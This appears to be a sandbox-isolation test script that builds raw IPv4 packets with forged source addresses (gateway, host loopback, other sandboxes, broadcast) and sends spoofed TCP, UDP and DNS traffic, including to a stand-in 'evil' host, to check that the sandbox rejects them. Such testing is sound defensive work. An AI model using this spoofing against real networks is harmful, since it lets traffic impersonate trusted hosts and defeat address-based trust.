# SPDX-License-Identifier: Apache-2.0
# Trick: packets that say they come from the gate, from the host's loopback, from another
#	sandbox
# Gain: who answers by the sender's address can be led
from trick import *

s = packets("raw socket", socket.AF_INET, socket.SOCK_RAW, 255)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
for src in (("11.0.0.2",) if BARE else (GATE, HOST, "127.0.0.1", "11.0.0.1", "11.0.0.2", EVIL, "0.0.0.0", "224.0.0.1", "255.255.255.255")):
    for dst in (EVIL, "11.0.0.2", "127.0.0.1", HOST, GATE):
        if BARE and dst.startswith("127"):
            continue
        for data, proto in ((tcp_segment(src, dst, 6000, 80), 6), (tcp_segment(src, dst, 6000, 80, 0x18, 5, 5, b"brig-smuggled"), 6),
                            (udp_datagram(53, 53, question("forged.evil.example.com")), 17), (udp_datagram(9, 443, b"brig-smuggled"), 17)):
            try:
                s.sendto(ipv4(dst, proto, data, src), (dst, 0))
            except OSError as e:
                hear(repr(e).encode())
    try:
        s.sendto(ipv4(API, 6, tcp_segment(src, API, 6001, 80), src), (API, 0))
    except OSError as e:
        hear(repr(e).encode())
time.sleep(0.1)
stopped("nobody believed it")
